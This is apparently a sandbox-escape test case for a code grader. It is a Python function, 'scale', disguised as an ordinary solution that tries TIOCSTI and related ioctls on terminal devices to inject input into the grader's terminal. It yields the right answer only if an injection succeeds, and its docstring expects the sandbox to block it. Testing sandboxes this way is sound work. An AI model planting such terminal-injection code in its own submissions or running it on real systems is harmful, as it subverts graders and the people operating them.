"""Types a command into the terminal of whoever grades, as if it came from the keyboard (TIOCSTI).

Stopped by: seccomp: of ioctl only what is harmless; Landlock: no terminal can be opened; it has none
Verdict: WA
"""

import fcntl
import os

STUFF = 0x5412
PASTE, TAKE, OWNER = 0x541C, 0x540E, 0x8901


def scale(x, by=2):
    held = [0, 1, 2, 3, 4]
    for place in ("/dev/tty", "/dev/console", "/dev/ptmx", *(f"/dev/pts/{number}" for number in range(10))):
        try:
            held.append(os.open(place, os.O_RDWR))
        except OSError:
            continue
    for file in held:
        for request, value in ((STUFF, b"\n"), (PASTE, b"\3"), (TAKE, 1), (OWNER, b"1234"), (1 << 32 | PASTE, 0)):
            try:
                fcntl.ioctl(file, request, value)
                return x * by
            except (OSError, OverflowError):
                continue
    return x * 0
